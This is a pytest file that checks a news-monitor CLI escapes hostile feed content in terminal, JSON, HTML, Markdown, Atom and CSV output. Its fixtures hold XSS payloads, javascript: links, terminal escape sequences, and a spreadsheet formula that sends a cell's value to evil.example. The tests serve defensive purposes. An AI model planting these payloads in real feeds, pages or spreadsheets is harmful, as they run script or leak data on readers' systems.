"""Hostile stories shown to the analyst: every output escapes what a feed put in the archive.

A local newswire serves a JSON Feed (JSON can carry the ESC character, XML cannot) whose
titles and summaries hold script tags, terminal escape sequences, Markdown and HTML links to
``javascript:`` and a spreadsheet formula; a real crawl archives them, and one more story
whose address is ``javascript:`` goes in through the archive's own write API, as a crawler
bug or an old archive could have left it. Then the real CLI prints, digests and exports them
(issue 10 items 2, 8, 12 and 13).
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import select
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import feedparser
import lxml.etree
import lxml.html
import pytest
from markdown_it import MarkdownIt

from monitor.archive import Archive
from monitor.escaping import html_link, markdown_link, web_url
from monitor.newswire import Newswire, Reply
from monitor.records import ArticleRecord, FlagRecord
from tests.browsing import headless_chromium
from tests.conftest import CLI_TIMEOUT, Result, default_topics, run_cli, write_config
from tests.serving import Served

SCRIPT = "<script>document.title='pwned'</script>"
IMG = "<img src=x onerror=\"document.body.insertAdjacentHTML('beforeend','<p id=pwned>')\">"
OSC8 = "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\"
ESCAPES = f"{OSC8} \x1b[2J\x1b[31m \x07 \x9b31m \u202eevil\u202c [link=http://evil.example]here[/link] :warning:"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Lavrov in Pyongyang")'
MD_LINK = '[x](javascript:alert(1)) <a href="javascript:alert(1)">y</a> <javascript:alert(1)>'
# Each story names Russia and North Korea, so the repository's topic flags it.
STORIES = {
    "script": (f"{SCRIPT}Lavrov in Pyongyang {IMG}", f"Lavrov met Choe Son Hui in Pyongyang. {SCRIPT}"),
    "escapes": (f"Lavrov in Pyongyang {ESCAPES}", f"Lavrov met Choe Son Hui in Pyongyang. {ESCAPES}"),
    "formula": (FORMULA, "Lavrov met Choe Son Hui in Pyongyang about trains."),
    "markdown": (f"{MD_LINK} Lavrov in Pyongyang", f"Lavrov met Choe in Pyongyang. {MD_LINK}"),
}  # fmt: skip
JAVASCRIPT_URL = "javascript:document.title='pwned'"
# Terminal controls: C0 but newline, DEL, C1, and the bidi embeddings, overrides and isolates.
CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A folder with a config and an archive holding the hostile stories, all flagged."""
    folder = tmp_path_factory.mktemp("hostile")
    with Newswire() as wire:
        items = []
        for number, (name, (title, summary)) in enumerate(STORIES.items(), start=1):
            path = f"/news/{name}"
            wire.route(path, Reply(b"gone", status=404))  # the feed's text stands as the body
            when = f"2026-11-2{number}T08:00:00Z"
            items.append(
                {"id": f"urn:{name}", "url": wire.url(path), "title": title,
                 "summary": summary, "date_published": when}
            )  # fmt: skip
        feed = {"version": "https://jsonfeed.org/version/1.1", "title": "Hostile", "items": items}
        headers = {"Content-Type": "application/feed+json"}
        wire.route("/feed.json", Reply(json.dumps(feed).encode(), headers=headers))
        topics = default_topics()
        topics["russia-dprk"]["description"] = f"Russia and North Korea {SCRIPT} {ESCAPES}"
        write_config(folder, [{"name": "wire", "url": wire.url("/feed.json")}], topics=topics)
        crawl = run_cli("crawl", cwd=folder)
    assert crawl.code == 0, crawl.err
    with Archive.open(folder / "archive.db") as archive:
        archive.add_article(
            ArticleRecord(
                source="wire",
                key=JAVASCRIPT_URL,
                url=JAVASCRIPT_URL,
                guid="urn:js",
                title="Lavrov in Pyongyang by javascript",
                summary="s",
                body="Lavrov met Choe Son Hui in Pyongyang.",
                published="2026-11-29T08:00:00Z",
                published_raw=None,
                fetched="2026-11-29T09:00:00Z",
                language="en",
                extract_error=None,
            ),
            [
                FlagRecord(
                    topic="russia-dprk",
                    score=9.0,
                    threshold=1.0,
                    rule="rule",
                    rules=("rule",),
                    terms=(),
                    snippet="Lavrov met Choe Son Hui in Pyongyang.",
                )
            ],
        )
    flagged = json.loads(cli(folder, "flagged", "--since", "2026-01-01", "--format", "json").out)
    assert len(flagged) == len(STORIES) + 1, "every hostile story must be archived and flagged"
    yield folder


def cli(folder: Path, *args: str) -> Result:
    result = run_cli(*args, cwd=folder)
    assert result.code == 0, f"wirewatch {' '.join(args)}: {result.err}"
    return result


@pytest.fixture(scope="module")
def ids(desk: Path) -> dict[str, int]:
    """The archive ID of each hostile story, by its name in STORIES (and "javascript")."""
    rows = json.loads(cli(desk, "flagged", "--since", "2026-01-01", "--format", "json").out)
    by_title = {row["title"]: row["id"] for row in rows}
    found = {name: by_title[title] for name, (title, _) in STORIES.items()}
    found["javascript"] = by_title["Lavrov in Pyongyang by javascript"]
    return found


def test_archive_text_reaches_the_terminal_without_control_characters(
    desk: Path, ids: dict[str, int]
) -> None:
    """issue 10 item 8: ESC sequences (OSC 8 links, screen clears), BEL, C1 controls and bidi
    overrides in titles and snippets are shown, not obeyed, by every command that prints
    archive text for people."""
    story = ids["escapes"]
    outputs = {
        "show": cli(desk, "show", str(story)).out,
        "flagged": cli(desk, "flagged", "--since", "2026-01-01").out,
        "search": cli(desk, "search", "Pyongyang").out,
    }  # the digest and the exports are checked below, with their formats
    for name, text in outputs.items():
        assert "Lavrov" in text, name
        assert not CONTROLS.findall(text), f"{name} printed {CONTROLS.findall(text)}"
    # The escape is shown for what it is, and rich read no [markup] out of a title.
    assert "␛]8;;http://evil.example" in outputs["show"]
    assert "[x](javascript:alert(1))" in outputs["flagged"]
    assert "[link=http://evil.example]here[/link] :warning:" in outputs["search"]


# What rich itself writes on a terminal: colours and styles (SGR), nothing else.
RICH_STYLES = re.compile(r"\x1b\[[0-9;]*m")


def in_terminal(folder: Path, *args: str) -> str:
    """Run the CLI with its stdout and stderr on a pseudo-terminal; return what it wrote."""
    main, side = pty.openpty()
    env = {key: value for key, value in os.environ.items() if key != "WIREWATCH_CONFIG"}
    process = subprocess.Popen(
        [sys.executable, "-m", "monitor", *args],
        cwd=folder, stdin=subprocess.DEVNULL, stdout=side, stderr=side,
        env={**env, "COLUMNS": "200", "TERM": "xterm-256color"},
    )  # fmt: skip
    os.close(side)
    chunks = []
    deadline = time.monotonic() + CLI_TIMEOUT
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([main], [], [], 1)
            if not ready:
                continue
            try:
                chunk = os.read(main, 65536)
            except OSError:  # EIO: the program closed the terminal
                break
            if not chunk:
                break
            chunks.append(chunk)
        else:
            pytest.fail(f"wirewatch {' '.join(args)} did not finish within {CLI_TIMEOUT}s")
        assert process.wait(timeout=CLI_TIMEOUT) == 0, b"".join(chunks).decode()
    finally:
        process.kill()
        process.wait(timeout=CLI_TIMEOUT)
        os.close(main)
    return b"".join(chunks).decode("utf-8")


def test_on_a_terminal_only_wirewatchs_own_colours_are_escape_sequences(
    desk: Path, ids: dict[str, int]
) -> None:
    """issue 10 item 8: on a real (pseudo-)terminal, where rich writes colours and CSV is
    shown rather than stored, the archive's ESC, C1 and bidi characters are shown, not
    obeyed: no OSC 8 link, no screen clear, no CSI."""
    story = ids["escapes"]
    for args in (("show", str(story)), ("search", "Pyongyang"),
                 ("flagged", "--since", "2026-01-01", "--format", "csv")):  # fmt: skip
        text = in_terminal(desk, *args)
        assert "Lavrov" in text, args
        assert "\x1b[" in text or "csv" in args, args  # rich saw a terminal: it styled
        assert "\x1b]" not in text and "\x1b[2J" not in text, args
        left = CONTROLS.findall(RICH_STYLES.sub("", text).replace("\r", ""))
        assert not left, f"{args} printed {left}"


def test_json_keeps_the_exact_text_of_a_hostile_story(desk: Path, ids: dict[str, int]) -> None:
    """issue 10 item 8: the terminal's safety never changes the data a script reads: JSON
    writes every control character as an escape, and parses back to the archived title."""
    story = ids["escapes"]
    title = STORIES["escapes"][0]
    shown = cli(desk, "show", str(story), "--format", "json").out
    found = cli(desk, "search", "Pyongyang", "--format", "json").out
    exported = cli(desk, "export").out
    for text in (shown, found, exported):
        assert not CONTROLS.findall(text)
        assert "\\u001b]8;;http://evil.example" in text and "\\u202e" in text
    assert json.loads(shown)["title"] == title
    assert title in {row["title"] for row in json.loads(found)}
    assert title in {json.loads(line)["title"] for line in exported.splitlines()}


def test_the_html_digest_escapes_stories_and_links_only_web_addresses(desk: Path) -> None:
    """issue 10 item 2: titles, snippets and the topic description with <script> and
    onerror come out as text, and a javascript: story address is not a link."""
    cli(desk, "digest", "--since", "2026-01-01", "--format", "html", "-o", "digest.html")
    text = (desk / "digest.html").read_text(encoding="utf-8")
    page = lxml.html.fromstring(text)
    assert [element.tag for element in page.iter("script", "img", "iframe")] == []
    assert not [name for element in page.iter() for name in element.attrib if name.startswith("on")]
    hrefs = [anchor.get("href") for anchor in page.iter("a")]
    assert hrefs and all(href.startswith("http://127.0.0.1:") for href in hrefs), hrefs
    assert 'href="javascript:' not in text.lower()
    shown = page.text_content()
    assert SCRIPT in shown and "Lavrov in Pyongyang by javascript" in shown  # as text
    assert f"Russia and North Korea {SCRIPT}" in shown
    assert not CONTROLS.findall(text)


def test_a_hostile_story_runs_no_script_in_the_browser(desk: Path) -> None:
    """issue 10 item 2: the HTML digest opened in headless Chromium runs none of the
    stories' scripts: the page keeps its title and gains no element, and no link leads to
    javascript:."""
    from selenium.webdriver.common.by import By

    cli(desk, "digest", "--since", "2026-01-01", "--format", "html", "-o", "browser.html")
    with headless_chromium() as driver:
        driver.get((desk / "browser.html").as_uri())
        assert driver.title.startswith("wirewatch digest")
        assert driver.find_elements(By.ID, "pwned") == []
        assert driver.find_elements(By.TAG_NAME, "script") == []
        headings = [h.text for h in driver.find_elements(By.TAG_NAME, "h3")]
        assert any(SCRIPT in heading for heading in headings), headings
        hrefs = [a.get_attribute("href") for a in driver.find_elements(By.TAG_NAME, "a")]
        assert hrefs and all(href.startswith("http://127.0.0.1:") for href in hrefs), hrefs


def rendered_markdown(text: str) -> Any:
    """Parse Markdown as a CommonMark renderer does (HTML allowed, as chat tools and GitHub
    pass it through) and return the HTML it makes."""
    html = MarkdownIt("commonmark").enable("table").enable("strikethrough").render(text)
    return lxml.html.fromstring(f"<div>{html}</div>")


def test_markdown_digest_and_export_carry_no_html_and_link_only_web_addresses(
    desk: Path,
) -> None:
    """issue 10 item 12: Markdown output escapes titles and snippets (no raw HTML, no
    [x](javascript:) link) and links only http(s) addresses."""
    for args in (("digest", "--since", "2026-01-01"), ("export", "--format", "md")):
        text = cli(desk, *args).out
        page = rendered_markdown(text)
        assert [element.tag for element in page.iter("script", "img", "iframe")] == [], args
        assert not [n for element in page.iter() for n in element.attrib if n.startswith("on")]
        hrefs = [anchor.get("href") for anchor in page.iter("a")]
        assert hrefs and all(href.startswith("http://127.0.0.1:") for href in hrefs), hrefs
        assert not CONTROLS.findall(text), args  # item 8: this is printed on a terminal too
        shown = page.text_content()
        # Each hostile text is there, shown exactly as the feed wrote it.
        assert SCRIPT in shown and "[x](javascript:alert(1))" in shown, args
        assert '<a href="javascript:alert(1)">y</a>' in shown
        assert "Lavrov in Pyongyang by javascript" in shown


def test_the_atom_export_links_only_web_addresses(desk: Path) -> None:
    """issue 10 item 12: an entry whose story address is javascript: has no link (its
    address is text in the entry), and titles stay Atom text."""
    text = cli(desk, "export", "--format", "atom").out
    assert not CONTROLS.findall(text)  # item 8 on a terminal, and XML refuses them anyway
    feed = feedparser.parse(io.BytesIO(text.encode("utf-8")))
    assert not feed.bozo, feed.get("bozo_exception")
    assert len(feed.entries) == len(STORIES) + 1
    links = [link["href"] for entry in feed.entries for link in entry.get("links", [])]
    assert links and all(link.startswith("http://127.0.0.1:") for link in links), links
    document = lxml.etree.fromstring(text.encode("utf-8"))
    every_link = [link.get("href") for link in document.iter("{http://www.w3.org/2005/Atom}link")]
    assert all(href.startswith(("http://", "https://")) for href in every_link), every_link
    scripted = next(entry for entry in feed.entries if entry.title.endswith("by javascript"))
    assert not scripted.get("links") and JAVASCRIPT_URL in scripted.content[0].value
    assert any(entry.title == STORIES["script"][0] for entry in feed.entries)


def test_the_served_atom_feed_survives_hostile_titles_and_links_only_web_addresses(
    desk: Path, ids: dict[str, int]
) -> None:
    """issue 10 item 12: serve's Atom feed of flagged stories is a feed (one title with an
    ESC character made it an error page), its titles are text, and a story whose address is
    javascript: links to its row in serve instead."""
    with Served(desk, config="config.yaml") as served:
        status, body, _ = served.get("/archive/flagged_atom.atom")
        assert status == 200, body[:500]
        document = lxml.etree.fromstring(body.encode("utf-8"))
        atom = "{http://www.w3.org/2005/Atom}"
        hrefs = [link.get("href") for link in document.iter(f"{atom}link")]
        entries = {entry.findtext(f"{atom}title"): entry for entry in document.iter(f"{atom}entry")}
        assert len(entries) == len(STORIES) + 1
        assert STORIES["script"][0] in entries  # the title as text, escaped by XML
        assert not CONTROLS.findall(body)
        scripted = entries["Lavrov in Pyongyang by javascript"].find(f"{atom}link").get("href")
        assert scripted == f"articles/{ids['javascript']}"
        assert all(href.startswith(("http://", "https://", "articles/")) for href in hrefs), hrefs
        # The relative link leads to the story's row in serve.
        assert served.get(f"/archive/{scripted}")[0] == 200


def test_a_formula_title_is_text_in_every_csv(desk: Path) -> None:
    """issue 10 item 13: a title starting with = is written '=..., so a spreadsheet shows
    it instead of running it, in export and in the list commands' --format csv."""
    cli(desk, "export", "--format", "csv", "-o", "stories.csv")
    outputs = {
        "export": (desk / "stories.csv").read_text(encoding="utf-8"),
        "flagged": cli(desk, "flagged", "--since", "2026-01-01", "--format", "csv").out,
        "search": cli(desk, "search", "trains", "--format", "csv").out,
    }
    for name, text in outputs.items():
        rows = list(csv.DictReader(io.StringIO(text)))
        titles = [row["title"] for row in rows]
        assert "'" + FORMULA in titles, (name, titles)
        cells = [cell for row in rows for cell in row.values() if cell]
        assert not [cell for cell in cells if cell[0] in "=+-@\t\r"], name
    # To a file, the rest of the text is kept as it is: the ESC characters are data there.
    assert "\x1b]8;;http://evil.example" in outputs["export"]


@pytest.mark.parametrize(
    ("url", "linked"),
    [
        ("http://127.0.0.1/a", True),
        ("HTTPS://example.org/a?b=1&c=(2)", True),
        ("javascript:alert(1)", False),
        ("JavaScript:alert(1)", False),
        (" javascript:alert(1)", False),
        ("java\tscript:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("vbscript:msgbox(1)", False),
        ("file:///etc/passwd", False),
        ("//evil.example/a", False),
        ("http:alert(1)", False),
        ("http://[::1", False),
        ("", False),
    ],
)
def test_only_http_and_https_addresses_become_links(url: str, linked: bool) -> None:
    """issue 10 items 2 and 12: the one scheme check behind every link in HTML, Markdown
    and Atom output; a refused address is shown as text."""
    assert (web_url(url) is not None) is linked
    html = str(html_link("story", url))
    markdown = str(markdown_link("story", url))
    assert html.startswith("<a href=") is linked and markdown.startswith("[story](") is linked
    if not linked:
        assert html == "story" and markdown == "story"
